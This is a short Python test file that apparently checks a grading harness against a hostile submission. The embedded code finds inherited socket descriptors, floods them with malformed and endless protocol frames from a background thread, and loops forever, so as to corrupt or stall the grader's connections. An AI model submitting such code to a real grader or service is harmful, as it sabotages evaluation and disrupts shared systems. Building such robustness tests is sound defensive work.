"""Writes bytes of its own on the connections below the messages: broken and endless frames."""

from attack import HASTY, wrong

LIMITS = HASTY
PROOF = "writes|took too long|used up"
WRITE = r"""
import os, socket, stat, threading

DAILY = "closes_the_wires"
def connections():
    for number in range(3, 400):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield number
        except OSError:
            pass
huge = b"\x02" + (2**62).to_bytes(8, "big")
more = b"\x01\x01x"  # a part, and more to come
ping = b"\x04\x09\x04PING\x00\x00" + b"x" * 2
noise = [b"\xff" * 4096, huge + b"x" * 1000, more * 5000, b"\x06" + (2**40).to_bytes(8, "big"), ping * 500,
         b"\xff\x00\x00\x00\x00\x00\x00\x00\x01\x7f\x03\x00NULL", b"\x00" * 4096]
def write(rounds):
    written = 0
    for turn in range(rounds):
        for number in list(connections()):
            try:
                written += os.write(number, noise[turn % len(noise)])
            except OSError:
                pass
    return written
print("writes", flush=True)
def double(x):
    write(1)
    return x
def row_sums(x):
    threading.Thread(target=write, args=(10**9,), daemon=True).start()
    return x.sum()
def biggest(x):
    write(3)
    while True:
        write(1)
"""


def submission():
    return wrong(double=WRITE, row_sums="", biggest="")
